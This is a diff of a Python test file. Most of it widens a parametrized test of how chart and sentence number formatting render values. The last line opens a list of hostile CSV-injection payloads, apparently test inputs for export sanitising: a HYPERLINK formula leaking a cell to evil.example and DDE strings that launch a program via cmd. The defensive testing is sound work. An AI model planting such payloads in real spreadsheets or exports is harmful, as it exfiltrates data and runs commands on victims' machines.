@@ -52,9 +52,29 @@ def test_the_csv_is_every_drawn_point_exactly():
     ]
 
 
-@pytest.mark.parametrize(("x", "text"), [(1.0, "1"), (0.1, "0.1"), (-0.99, "-0.99"), (60610.0, "60,610"), (2.5e-7, "2.500e-07"), (0.0, "0")])
-def test_numbers_in_a_sentence_have_no_padding(x, text):
-    assert describe.number(x) == text
+@pytest.mark.parametrize(
+    ("x", "text", "padded"),
+    [
+        (1.0, "1", "1.000"),
+        (10_000.0, "10,000", "10,000"),  # a whole number longer than the digits is written in full
+        (131_072.0, "131,072", "131,072"),  # not 131,100: a position is exact
+        (131_072.5, "131,100", "131,100"),
+        (54_413.2, "54,410", "54,410"),  # 4 significant digits, thousands separated, never 5.441e+04
+        (123_456_789_012.0, "123,456,789,012", "123,456,789,012"),
+        (1e15, "1e+15", "1.000e+15"),  # from 1e15 on, scientific, its exponent as a hover writes it
+        (0.1, "0.1", "0.1000"),
+        (-0.99, "-0.99", "-0.9900"),
+        (0.99999, "1", "1.000"),  # rounds up: one digit fewer after the point
+        (57.29578, "57.3", "57.30"),
+        (0.00012345, "0.0001234", "0.0001234"),  # 1e-4 is still written out
+        (2.5e-7, "2.5e-7", "2.500e-7"),
+        (-3.14159e-9, "-3.142e-9", "-3.142e-9"),
+        (0.0, "0", "0"),
+    ],
+)
+def test_the_one_number_rule_on_screen_and_in_a_sentence(x, text, padded):
+    """core.viz.charts.number is the rule, describe.number its sentence form without padding zeros: a hand-written battery."""
+    assert describe.number(x) == text and charts.number(x) == padded
 
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
